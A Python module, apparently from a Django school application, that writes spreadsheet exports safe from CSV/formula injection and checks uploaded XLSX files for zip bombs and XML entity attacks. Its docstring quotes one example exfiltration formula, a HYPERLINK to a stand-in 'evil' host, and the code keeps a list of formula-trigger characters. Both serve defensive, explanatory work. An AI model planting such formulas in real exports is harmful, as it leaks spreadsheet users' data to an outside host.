"""Spreadsheets in and out, safely: the one place that writes and checks XLSX (and CSV) files.

Writing (every export): text is written as text. A value that people typed (a name, an answer
to a survey, a competence) can start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return; a spreadsheet program would run it as a formula (``=HYPERLINK("http://evil/?"&B3)``
leaks the row next to it). OWASP's recommendation for CSV injection is followed: in XLSX such a
cell is a string cell with the *quote prefix* (Excel's and LibreOffice's own "this is text"
mark, the apostrophe a user would type, kept when the cell is edited), so the value stays
exactly as typed and an exported list can be imported back; in CSV, which has no cell types,
the value gets a leading apostrophe. Characters XML cannot hold (``\\x05``) are dropped instead
of failing the whole export.

Reading (every upload): an XLSX file is a ZIP archive whose parts are XML. Before openpyxl
opens it, ``check_xlsx`` reads the archive's directory only and refuses an archive that expands
too far (in total, or as a ratio), has too many parts, a shared-strings part larger than any
school's list needs, or XML with a document type declaration (entity expansion). The sizes in
the directory are binding: Python's zipfile stops every part at its declared size (and fails
the CRC check if the data goes on), so a part cannot expand beyond what was checked. The XML
itself is parsed with defusedxml (openpyxl uses it when installed).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import IO, TYPE_CHECKING, Any

from django.conf import settings
from django.utils import timezone
from django.utils.translation import gettext as _

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell
    from openpyxl.styles import Font

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# OWASP (CSV injection): a cell starting with one of these is read as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", " "))


# --- writing --------------------------------------------------------------------------------


def clean_text(value: str) -> str:
    """``value`` without the characters XML 1.0 cannot hold (C0 controls but tab and line
    breaks): openpyxl and python-docx refuse them and the export would fail as a whole."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", value)


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_TRIGGERS)


def csv_value(value: Any) -> str:
    """One CSV field: text a spreadsheet program would run as a formula gets a leading
    apostrophe (OWASP); dates as ДД.ММ.ГГГГ."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return f"{local:%d.%m.%Y %H:%M}"
    if isinstance(value, date):
        return f"{value:%d.%m.%Y}"
    text = clean_text(str(value))
    return f"'{text}" if is_formula_like(text) else text


def sheet_title(title: str) -> str:
    """A valid sheet title (at most 31 characters, none of ``[]:*?/\\``) from any text."""
    cleaned = clean_text(str(title)).translate(_SHEET_TITLE_FORBIDDEN).strip(" '")
    return cleaned[:31] or "Sheet"


def cell(
    sheet: Any,
    value: Any,
    *,
    font: Font | None = None,
    number_format: str | None = None,
    wrap: bool = False,
) -> Cell:
    """A cell of ``sheet`` (a worksheet in either mode) holding ``value`` safely: text as
    text, dates formatted ДД.ММ.ГГГГ (aware datetimes in local time), lists joined."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment

    if isinstance(value, datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value).replace(tzinfo=None)
        number_format = number_format or "DD.MM.YYYY HH:MM"
    elif isinstance(value, date):
        number_format = number_format or "DD.MM.YYYY"
    elif isinstance(value, list | tuple | set | frozenset):
        value = ", ".join(str(v) for v in value)
    elif value is not None and not isinstance(value, int | float):
        # Decimal and other numbers stay numbers; everything else is text.
        from decimal import Decimal

        if not isinstance(value, Decimal):
            value = str(value)
    if isinstance(value, str):
        value = clean_text(value)
    result = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        result.data_type = "s"  # never "f": a formula is never written from data
        if is_formula_like(value):
            result.quotePrefix = True
    if font is not None:
        result.font = font
    if number_format:
        result.number_format = number_format
    if wrap:
        result.alignment = Alignment(wrap_text=True, vertical="top")
    return result


def append(
    sheet: Any, values: Iterable[Any], *, font: Font | None = None, wrap: bool = False
) -> None:
    """Append one row of safe cells to ``sheet`` (a worksheet in either mode)."""
    sheet.append([cell(sheet, value, font=font, wrap=wrap) for value in values])


def put(
    sheet: Any,
    *,
    row: int,
    column: int,
    value: Any,
    font: Font | None = None,
    wrap: bool = False,
) -> Cell:
    """Write ``value`` safely at (``row``, ``column``) of a normal (not write-only) sheet."""
    safe = cell(sheet, value, font=font, wrap=wrap)
    target = sheet.cell(row=row, column=column)
    target.value = safe.value
    target.data_type = safe.data_type
    target.quotePrefix = safe.quotePrefix
    target.number_format = safe.number_format
    if font is not None:
        target.font = font
    if wrap:
        from openpyxl.styles import Alignment

        target.alignment = Alignment(wrap_text=True, vertical="top")
    return target


def new_workbook(*, write_only: bool = False) -> Workbook:
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def workbook_bytes(workbook: Workbook) -> bytes:
    """Save ``workbook``. A normal workbook is walked once more first: a string cell that
    reached it some other way is made text too (a formula is never written from data)."""
    if not getattr(workbook, "write_only", False):
        for worksheet in workbook.worksheets:
            for row in worksheet.iter_rows():
                for item in row:
                    if item.data_type == "f" or (
                        isinstance(item.value, str) and item.data_type != "s"
                    ):
                        item.data_type = "s"
                    if isinstance(item.value, str) and is_formula_like(item.value):
                        item.quotePrefix = True
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def table_bytes(
    title: str, headers: Sequence[str], rows: Iterable[Sequence[Any]], *, bold: bool = True
) -> bytes:
    """One sheet: a bold header row and ``rows``, streamed (openpyxl's write-only mode)."""
    from openpyxl.styles import Font

    workbook = new_workbook(write_only=True)
    sheet = workbook.create_sheet(title=sheet_title(title))
    append(sheet, headers, font=Font(bold=True) if bold else None)
    for values in rows:
        append(sheet, values)
    return workbook_bytes(workbook)


# --- reading --------------------------------------------------------------------------------


@dataclass(frozen=True)
class XlsxLimits:
    """What an uploaded workbook may expand to. A class list of 2,000 people with twenty
    columns is about 2 MB of XML; the limits leave a wide margin above real files."""

    max_uncompressed: int = 60 * 1024 * 1024
    max_ratio: int = 120  # uncompressed / compressed, per part and overall (beyond tiny parts)
    max_entries: int = 300
    max_shared_strings: int = 20 * 1024 * 1024
    small_part: int = 1024 * 1024  # parts this small may compress as well as they like

    @classmethod
    def from_settings(cls) -> XlsxLimits:
        return cls(**getattr(settings, "SPREADSHEET_LIMITS", {}))


class UnsafeSpreadsheet(Exception):
    """The archive is refused before parsing; ``message`` is shown to the user (no personal
    data in it), ``code`` names the rule."""

    def __init__(self, message: str, *, code: str) -> None:
        super().__init__(message)
        self.message = message
        self.code = code


def _refuse(code: str) -> UnsafeSpreadsheet:
    return UnsafeSpreadsheet(
        _(
            "The file cannot be read safely: it expands far beyond a table's size or is built "
            "in an unusual way. Open it in Excel or LibreOffice, save it again as .xlsx (or "
            ".csv) and upload the new file."
        ),
        code=code,
    )


def check_xlsx(handle: IO[bytes], *, limits: XlsxLimits | None = None) -> None:
    """Refuse (``UnsafeSpreadsheet``) an XLSX archive that is not safe to parse, reading only
    its directory and the first bytes of its XML parts. ``handle`` must be seekable; it is
    left at the start."""
    from defusedxml import DTDForbidden, EntitiesForbidden, ExternalReferenceForbidden
    from defusedxml.ElementTree import iterparse

    limits = limits or XlsxLimits.from_settings()
    handle.seek(0)
    try:
        archive = zipfile.ZipFile(handle)
    except (zipfile.BadZipFile, OSError, ValueError) as exc:
        raise UnsafeSpreadsheet(
            _("The file looks like .xlsx but cannot be opened: it is damaged or not a workbook."),
            code="bad_xlsx",
        ) from exc
    try:
        entries = archive.infolist()
        if len(entries) > limits.max_entries:
            raise _refuse("too_many_parts")
        total = compressed = 0
        for entry in entries:
            total += entry.file_size
            compressed += entry.compress_size
            if entry.file_size > limits.small_part and entry.file_size > limits.max_ratio * max(
                entry.compress_size, 1
            ):
                raise _refuse("ratio")
            if (
                entry.filename.lower().endswith("sharedstrings.xml")
                and entry.file_size > limits.max_shared_strings
            ):
                raise _refuse("shared_strings")
        if total > limits.max_uncompressed:
            raise _refuse("too_large")
        if total > limits.small_part and total > limits.max_ratio * max(compressed, 1):
            raise _refuse("ratio")
        for entry in entries:
            if not entry.filename.lower().endswith((".xml", ".rels")):
                continue
            # A document type declaration comes before the root element: reading up to the
            # first element is enough to find one (never present in a real workbook).
            try:
                with archive.open(entry) as part:
                    for _event, _element in iterparse(
                        part, events=("start",), forbid_dtd=True, forbid_entities=True
                    ):
                        break
            except (DTDForbidden, EntitiesForbidden, ExternalReferenceForbidden) as exc:
                raise _refuse("dtd") from exc
            except Exception as exc:  # malformed XML or a broken part
                raise UnsafeSpreadsheet(
                    _(
                        "The file looks like .xlsx but cannot be opened: it is damaged or "
                        "not a workbook."
                    ),
                    code="bad_xlsx",
                ) from exc
    finally:
        archive.close()
        handle.seek(0)
